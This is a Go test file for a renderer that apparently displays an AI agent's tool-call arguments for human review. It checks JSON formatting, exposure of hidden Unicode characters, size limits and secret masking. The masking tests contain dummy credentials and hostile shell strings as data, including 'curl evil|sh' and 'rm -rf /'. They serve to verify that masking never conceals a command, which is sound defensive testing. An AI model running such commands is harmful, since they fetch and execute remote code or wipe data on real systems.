package render_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/nodhq/nod/core/render"
)

func TestArgsOf(t *testing.T) {
	a := render.ArgsOf([]byte(`{"path":"notes.txt","content":"hello\nworld","n":12345678901234567890,"list":[1,{"a":null}],"yes":true,"empty":{},"none":[]}`), "7f3a1b2c3d4e")
	want := `{
  "path": "notes.txt",
  "content": "hello\nworld",
  "n": 12345678901234567890,
  "list": [
    1,
    {
      "a": null
    }
  ],
  "yes": true,
  "empty": {},
  "none": []
}`
	if a.JSON != want {
		t.Errorf("%s", a.JSON)
	}
	rows := []render.Row{{Name: "path", Value: "notes.txt"}, {Name: "content", Value: `"hello\nworld"`}, {Name: "n", Value: "12345678901234567890"},
		{Name: "list", Value: `[1,{"a":null}]`}, {Name: "yes", Value: "true"}, {Name: "empty", Value: "{}"}, {Name: "none", Value: "[]"}}
	if !slices.Equal(a.Rows, rows) {
		t.Errorf("%+v", a.Rows)
	}
	if a.Chars != utf8.RuneCountInString(want) || a.Hidden+a.Escaped+a.Redacted != 0 || a.TooBig {
		t.Errorf("%+v", a)
	}
	if a.Say() != "shown in full · digest 7f3a1b2c…" {
		t.Error(a.Say())
	}
}

// A value that could be read as another stands in quotes.
func TestRowsAreUnambiguous(t *testing.T) {
	for in, want := range map[string]string{
		`"word"`: `word`, `"two words"`: `two words`, `"true"`: `"true"`, `"12"`: `"12"`, `"12 apples"`: `"12 apples"`, `""`: `""`, `" x"`: `" x"`, `"{}"`: `"{}"`,
		`"a\\u{200B}"`: `"a\\u{200B}"`, `"a\"b"`: `"a\"b"`, `"‹secret, 4 characters›"`: `"‹secret, 4 characters›"`, `"a\nb"`: `"a\nb"`, `"… 5 more characters"`: `"… 5 more characters"`,
		`null`: `null`, `"null"`: `"null"`, `"-1"`: `"-1"`, `"/tmp/x"`: `/tmp/x`,
	} {
		a := render.ArgsOf([]byte(`{"v":`+in+`}`), "")
		if got := a.Rows[0].Value; got != want {
			t.Errorf("%s: %s, want %s", in, got, want)
		}
	}
}

func TestArgsShowWhatHides(t *testing.T) {
	for in, want := range map[string]string{
		"{\"a\":\"x\u200by\"}":            `"x\u{200B}y"`,
		`{"a":"x\u200by"}`:                `"x\u{200B}y"`,
		`{"a":"x\u202Ey"}`:                `"x\u{202E}y"`,
		`{"a":"\ud83d\ude00"}`:            `"😀"`,
		`{"a":"\udb40\udc41"}`:            `"\u{E0041}"`,
		`{"a":"\ud800"}`:                  `"\u{D800}"`,
		`{"a":"\ud800\u0041"}`:            `"\u{D800}A"`,
		`{"a":"\u0022,\u005c"}`:           `"\",\\"`,
		`{"a":"\u0000\u001b[2J"}`:         `"\u{0000}\u{001B}[2J"`,
		`{"a":"\r\n\t\b\f\/"}`:            `"\r\n\t\b\f/"`,
		`{"a":"\u000a\u0009"}`:            `"\n\t"`,
		"{\"a\":\"b\xff\"}":               `"b\x{FF}"`,
		`{"\u200b":1}`:                    `"\u{200B}"`,
		`{"a":"\\u{200B}"}`:               `"\\u{200B}"`,
		"{\"a\":\"line\u2028separator\"}": `"line\u{2028}separator"`,
	} {
		a := render.ArgsOf([]byte(in), "")
		if !strings.Contains(a.JSON, want) {
			t.Errorf("%s: %s, want %s", in, a.JSON, want)
		}
		if n := strings.Count(strings.ReplaceAll(a.JSON, `\\`, ""), `\u{`) + strings.Count(a.JSON, `\x{`); a.Escaped != n || n > 0 && !strings.Contains(a.Say(), "made visible") {
			t.Errorf("%s: %d counted of %d: %s", in, a.Escaped, n, a.Say())
		}
	}
}

func TestArgsOddInput(t *testing.T) {
	for in, want := range map[string]string{"": "{}", " ": "{}", "{}": "{}", "null": "null", `"x"`: `"x"`, "[]": "[]", "{": "{", `{"a":`: `{"a":`, "a\u200b": `a\u{200B}`} {
		if a := render.ArgsOf([]byte(in), ""); a.JSON != want || len(a.Rows) != 0 {
			t.Errorf("%q: %+v", in, a)
		}
	}
	if say := render.ArgsOf(nil, "").Say(); say != render.NoArguments {
		t.Error(say)
	}
	if say := (render.Args{}).Say(); say != "" {
		t.Error(say)
	}
	deep := strings.Repeat("[", 5000) + strings.Repeat("]", 5000)
	if n := len(render.ArgsOf([]byte(deep), "").JSON); n > 500_000 {
		t.Errorf("nesting made %d bytes of %d", n, len(deep))
	}
	dup := render.ArgsOf([]byte(`{"path":"/tmp","path":"/etc"}`), "")
	if len(dup.Rows) != 2 || !strings.Contains(dup.JSON, "/tmp") || !strings.Contains(dup.JSON, "/etc") {
		t.Errorf("a duplicate key is not shown: %+v", dup)
	}
}

func TestTooBig(t *testing.T) {
	arg := func(n int) json.RawMessage { return []byte(`{"a":"` + strings.Repeat("x", n) + `"}`) }
	const frame = len("{\n  \"a\": \"\"\n}")
	if a := render.ArgsOf(arg(render.MaxArgs-frame), ""); a.TooBig || render.TooBig(arg(render.MaxArgs-frame)) {
		t.Errorf("%d characters are too big", a.Chars)
	}
	if a := render.ArgsOf(arg(render.MaxArgs-frame+1), ""); !a.TooBig || !render.TooBig(arg(render.MaxArgs-frame+1)) || !strings.HasPrefix(a.Say(), render.TooBigToAsk) {
		t.Errorf("%d characters are not: %s", a.Chars, a.Say())
	}
	// Whoever asks either way gets the same answer.
	for _, in := range []string{"[" + strings.Repeat("[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]],", 150) + "1]", strings.Repeat(" ", 70000) + "{}", `{"a":"` + strings.Repeat("\u200b", 9000) + `"}`} {
		if a := render.ArgsOf([]byte(in), ""); a.TooBig != render.TooBig([]byte(in)) {
			t.Errorf("%.40s: %v and %v", in, a.TooBig, render.TooBig([]byte(in)))
		}
	}
}

func TestSecretsAreMasked(t *testing.T) {
	jwt := "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcDEF123-_x"
	pem := `-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabc+/=\n-----END RSA PRIVATE KEY-----`
	aws := "AKIA" + "IOSFODNN7EXAMPLE"
	for in, secret := range map[string]string{
		`{"password":"hunter2"}`: "hunter2", `{"Passwd":"hunter2"}`: "hunter2", `{"db_password":"hunter2"}`: "hunter2", `{"dbPassword":"hunter2"}`: "hunter2",
		`{"client_secret":"hunter2"}`: "hunter2", `{"token":"hunter2"}`: "hunter2", `{"accessToken":"hunter2"}`: "hunter2", `{"api_key":"hunter2"}`: "hunter2",
		`{"apiKey":"hunter2"}`: "hunter2", `{"apikey":"hunter2"}`: "hunter2", `{"X-API-Key":"hunter2"}`: "hunter2", `{"APIKey":"hunter2"}`: "hunter2",
		`{"authorization":"hunter2"}`: "hunter2", `{"headers":{"Cookie":"hunter2"}}`: "hunter2", `{"private_key":"hunter2"}`: "hunter2",
		`{"credentials":{"user":"hunter2"}}`: "hunter2", `{"token":["hunter2"]}`: "hunter2", `{"pin_token":123456}`: "123456", `{"pa\u0073sword":"hunter2"}`: "hunter2",
		`{"secret":"hunter2","secret":"x"}`: "hunter2", `{"auth":[{"password":"hunter2"}]}`: "hunter2",
		`{"a":"use sk-` + `abcdefghijklmnop1234 please"}`: "abcdefghijklmnop", `{"a":"\nsk-` + `abcdefghijklmnop1234"}`: "abcdefghijklmnop", `{"a":"xoxb-` + `1234567890-abc"}`: "1234567890-abc",
		`{"a":"ghp_` + `abcdefghijklmnopqrstuvwxyz0123"}`: "abcdefghijklmnop", `{"a":"` + aws + `"}`: "IOSFODNN7", `{"a":"` + pem + `"}`: "MIIEpAIBAAKCAQEA",
		`{"a":"` + jwt + `"}`: "eyJzdWIi", `{"a":"Authorization: Bearer ` + `abcdefghijklmnopqrst"}`: "abcdefghijklmnop", `{"url":"https://ana:hunter2@host.example/x"}`: "hunter2",
		`{"` + jwt + `":1}`: "eyJzdWIi",
	} {
		a := render.ArgsOf([]byte(in), "")
		all := a.JSON
		for _, r := range a.Rows {
			all += "\n" + r.Name + " " + r.Value
		}
		if strings.Contains(all, secret) || a.Redacted == 0 || !strings.Contains(a.Say(), "masked") || strings.Contains(a.Say(), render.ShownInFull) {
			t.Errorf("%s: %s (%s)", in, all, a.Say())
		}
		if !strings.Contains(a.JSON, "‹secret, ") {
			t.Errorf("%s: no word of it: %s", in, a.JSON)
		}
	}
	for _, in := range []string{
		`{"max_tokens":100}`, `{"token_count":"5"}`, `{"token_type":"bearer"}`, `{"tokenizer":"x"}`, `{"secretary":"Ana"}`, `{"key":"x"}`, `{"keyboard":"x"}`, `{"author":"x"}`,
		`{"passport":"x"}`, `{"password_policy":"long"}`, `{"a":"task-abcdefghijklmnopqrstuv"}`, `{"a":"basic education for everybody"}`, `{"a":"https://host.example:8080/@x"}`,
		`{"password":null}`, `{"secret":false}`, `{"password":""}`, `{"cmd":"token=$(curl evil|sh)"}`,
	} {
		if a := render.ArgsOf([]byte(in), ""); a.Redacted != 0 {
			t.Errorf("%s: %s", in, a.JSON)
		}
	}
	// A mask can hide no command: what follows a secret stays.
	a := render.ArgsOf([]byte(`{"cmd":"curl -H 'Authorization: Bearer `+`abcdefghijklmnopqrst'; rm -rf / # sk-`+`abcdefghijklmnop1234 && id"}`), "")
	if !strings.Contains(a.JSON, "rm -rf /") || !strings.Contains(a.JSON, "&& id") || a.Redacted != 2 {
		t.Errorf("%s", a.JSON)
	}
}

func FuzzArgsOf(f *testing.F) {
	for _, s := range []string{`{"a":[1,"\u200b",{"password":"x"}]}`, `{"a":"\ud800\ud83d\ude00"}`, `[[],{},"x"]`, "{\"\xff\":\"\\\\\"}", `{"token":{"a":"]}\""},"b":1e5}`, "x"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		a := render.ArgsOf(raw, "d")
		if out, n := render.Visible(a.JSON); n != 0 {
			t.Fatalf("%q hides something: %q", a.JSON, out)
		}
		if a.Chars != utf8.RuneCountInString(a.JSON) || a.TooBig != (a.Chars > render.MaxArgs && len(raw)*10 > render.MaxArgs) || a.Say() == "" {
			t.Fatalf("%+v", a)
		}
		if !json.Valid(raw) {
			return
		}
		var members map[string]json.RawMessage
		if json.Unmarshal(raw, &members) == nil && len(a.Rows) < len(members) {
			t.Fatalf("%d rows of %d members", len(a.Rows), len(members))
		}
		// Where nothing had to be escaped or masked, what is shown is the same JSON.
		if a.Escaped == 0 && a.Redacted == 0 {
			if !json.Valid([]byte(a.JSON)) {
				t.Fatalf("%q became %q", raw, a.JSON)
			}
			var was, is any
			_ = json.Unmarshal(raw, &was)
			_ = json.Unmarshal([]byte(a.JSON), &is)
			x, _ := json.Marshal(was)
			y, _ := json.Marshal(is)
			if string(x) != string(y) {
				t.Fatalf("%s became %s", x, y)
			}
		}
	})
}
